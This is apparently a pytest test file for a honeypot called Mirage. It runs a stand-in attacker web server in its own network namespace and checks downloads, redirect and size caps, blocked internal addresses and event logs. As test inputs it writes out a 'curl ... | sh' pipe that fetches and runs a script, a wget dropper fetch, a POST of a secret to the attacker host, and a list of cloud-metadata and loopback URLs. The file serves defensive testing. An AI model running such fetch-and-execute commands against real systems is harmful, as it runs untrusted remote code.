"""Downloads truly made: two network namespaces of our own, Mirage in one, a web server of the attacker's in the other."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.e2e.house import House

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("ip") is None, reason="network namespaces of our own need root and ip (iproute2)"
)
BODY = b"#!/bin/sh\necho fetched\n" + b"# padding\n" * 40
FORBIDDEN = (
    "http://127.0.0.1:8080/",
    "http://203.0.113.1:8080/",
    "http://169.254.169.254/",
    "http://10.0.0.1/",
    "http://[::1]:8080/",
)
# What the attacker's server answers; each request is printed, so that the test knows what truly arrived.
SERVER = """
import http.server, sys
body = bytes.fromhex(sys.argv[1])
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        print(self.requestline, dict(self.headers), flush=True)
        if self.path.startswith("/to/"):
            self.send_response(302)
            self.send_header("location", self.path[4:])
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        data = body if self.path == "/x.sh" else b"z" * 50000
        self.send_response(200)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
    do_POST = do_GET
    def log_message(self, *words): pass
http.server.ThreadingHTTPServer(("0.0.0.0", 8080), Handler).serve_forever()
"""


def run(*command: str) -> None:
    subprocess.run(command, check=True, capture_output=True)


@pytest.fixture(scope="module")
def nets() -> Iterator[tuple[list[str], list[str]]]:
    """How to start a program in Mirage's network (203.0.113.1) and in the attacker's (203.0.113.5)."""
    mine, theirs = (f"mirage-{part}-{os.getpid()}" for part in ("in", "out"))
    hosts = Path("/etc/netns") / mine
    hosts.mkdir(parents=True, exist_ok=True)  # of one whose number this process has now, and who could not tidy up
    (hosts / "hosts").write_text("127.0.0.1 localhost\n203.0.113.5 files.example.com\n")
    (hosts / "resolv.conf").write_text("")
    link, end = f"mi{os.getpid()}", f"mo{os.getpid()}"
    try:
        for name in (mine, theirs):
            run("ip", "netns", "add", name)
            run("ip", "-n", name, "link", "set", "lo", "up")
        run("ip", "-n", mine, "link", "add", link, "type", "veth", "peer", "name", end, "netns", theirs)
        for name, device, address in ((mine, link, "203.0.113.1/24"), (theirs, end, "203.0.113.5/24")):
            run("ip", "-n", name, "addr", "add", address, "dev", device)
            run("ip", "-n", name, "link", "set", device, "up")
        run("ip", "-n", mine, "route", "add", "default", "via", "203.0.113.5")
        yield ["ip", "netns", "exec", mine], ["ip", "netns", "exec", theirs]
    finally:
        for name in (mine, theirs):
            subprocess.run(["ip", "netns", "del", name], capture_output=True, check=False)
        shutil.rmtree(hosts)


@pytest.fixture(scope="module")
def server(nets: tuple[list[str], list[str]], tmp_path_factory: pytest.TempPathFactory) -> Iterator[list[Path]]:
    """The attacker's server, and the same one in Mirage's own network, which must never be asked; what each was asked."""
    logs, started = [], []
    for index, within in enumerate(nets):
        log = tmp_path_factory.mktemp("server") / f"asked-{index}"
        with log.open("w") as out:
            started.append(subprocess.Popen([*within, sys.executable, "-c", SERVER, BODY.hex()], stdout=out))
        logs.append(log)
        _wait_for(within)
    yield logs
    for process in started:
        process.kill()
        process.wait()


def _wait_for(within: list[str]) -> None:
    """Until the server listens: asked by connecting, again and again, for a minute at most."""
    ask = "import socket,time\nfor n in range(1200):\n try: socket.create_connection(('127.0.0.1',8080)).close(); break\n except OSError: time.sleep(.05)\nelse: raise SystemExit(1)"
    subprocess.run([*within, sys.executable, "-c", ask], check=True)


@pytest.fixture(scope="module")
def open_house(nets: tuple[list[str], list[str]], server: list[Path], tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    settings = {"MIRAGE_INTERNET_DOWNLOADS": "real", "MIRAGE_INTERNET_LIMITS_SIZE": "20000", "MIRAGE_INTERNET_LIMITS_REDIRECTS": "1"}
    house = House(tmp_path_factory.mktemp("open") / "data", settings=settings, within=nets[0]).start()
    yield house
    house.stop()


@pytest.mark.parametrize("name", ["203.0.113.5", "files.example.com"])
def test_a_dropper_gets_what_its_server_has(open_house: House, server: list[Path], name: str) -> None:
    before = server[1].read_text().count("GET /x.sh")
    assert open_house.sh(f"wget -q -O- http://{name}:8080/x.sh").encode() == BODY
    assert open_house.sh(f"curl -s http://{name}:8080/x.sh | sh") == "fetched\n"
    requests = server[1].read_text().splitlines()
    assert sum("GET /x.sh" in line for line in requests) == before + 2
    agents = {"Wget/1.21" in line for line in requests} | {"curl/7.88" in line for line in requests}
    assert agents == {True, False}


def test_nothing_of_the_attacker_s_own_is_sent(open_house: House, server: list[Path]) -> None:
    open_house.ssh("curl -s -X POST -d secret=1 -H 'X-Mine: attack' -A mine http://203.0.113.5:8080/form")
    line = next(line for line in server[1].read_text().splitlines() if "/form" in line)
    assert line.startswith("GET /form HTTP/1.1")
    assert "attack" not in line and "mine" not in line


@pytest.mark.parametrize("target", FORBIDDEN)
def test_neither_directly_nor_by_a_redirect_is_our_own_network_asked(open_house: House, server: list[Path], target: str) -> None:
    for url in (target, f"http://203.0.113.5:8080/to/{target}"):
        result = open_house.ssh(f"curl -s -L -g -m 3 '{url}'")
        assert result.stdout == b""
    assert server[0].read_text() == ""


def test_redirects_end_at_the_cap(open_house: House, server: list[Path]) -> None:
    far = "http://203.0.113.5:8080/to/http://203.0.113.5:8080/to/http://203.0.113.5:8080/x.sh"
    assert open_house.ssh(f"curl -s -L -m 3 {far}").stdout == b""
    near = "http://203.0.113.5:8080/to/http://203.0.113.5:8080/x.sh"
    assert open_house.ssh(f"curl -s -L -m 60 {near}").stdout == BODY


def test_a_large_body_is_cut_at_the_cap_as_a_broken_line(open_house: House) -> None:
    result = open_house.ssh("curl -sS http://203.0.113.5:8080/large -o /tmp/large; echo $?; stat -c %s /tmp/large")
    assert result.stdout == b"18\n20000\n"
    assert result.stderr == b"curl: (18) transfer closed with 30000 bytes remaining to read\n"


def test_what_left_the_machine_is_on_record(open_house: House) -> None:
    events = [json.loads(line) for line in open_house.cli("events", "--json").stdout.splitlines()]
    left = [event for event in events if event.get("left")]
    assert left and all(event["verdict"] == "truly-fetched" or event["action"] == "resolve" for event in left)


def test_an_artifact_of_the_operator_s_answers_a_url(tmp_path: Path) -> None:
    """Served without the network: it needs no namespace, and nothing leaves."""
    file = tmp_path / "stage2.sh"
    file.write_bytes(BODY)
    house = House(tmp_path / "data", settings={"MIRAGE_INTERNET_SERVED": f"http://203.0.113.9/*.sh={file}"})
    house.start()
    try:
        assert house.sh("curl -s http://203.0.113.9/a/b.sh").encode() == BODY
        assert house.ssh("curl -s -m 1 http://203.0.113.9/a/b.txt").returncode in (7, 28)
    finally:
        house.stop()


def test_a_served_file_that_is_not_there_stops_the_start(tmp_path: Path) -> None:
    house = House(tmp_path / "data", settings={"MIRAGE_INTERNET_SERVED": "http://203.0.113.9/x=/nowhere/x"})
    with pytest.raises(AssertionError, match=r"internet\.served = .*/nowhere/x: No such file or directory; allowed:"):
        house.start()
